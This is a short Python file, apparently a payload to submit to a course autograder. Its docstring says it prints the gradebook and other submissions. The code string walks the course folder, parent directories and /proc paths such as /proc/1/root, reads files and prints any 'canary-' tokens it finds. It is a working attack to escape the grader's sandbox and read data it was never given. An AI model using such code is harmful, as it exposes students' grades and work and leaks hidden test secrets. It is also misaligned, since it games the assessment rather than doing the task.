"""Prints the gradebook, other submissions, and whatever else lies in the class directory."""

FIRST = """
import os
for folder in ("@COURSE@", ".", "..", "../..", "/proc/self/cwd/..", "/proc/1/root@COURSE@"):
    for where, _, names in os.walk(folder):
        for name in names[:40]:
            try:
                data = open(os.path.join(where, name), "rb").read(300_000)
                at = data.find(b"canary-")
                print(where, name, data[at:at + 80] if at >= 0 else len(data))
            except OSError as error:
                print(error)
"""
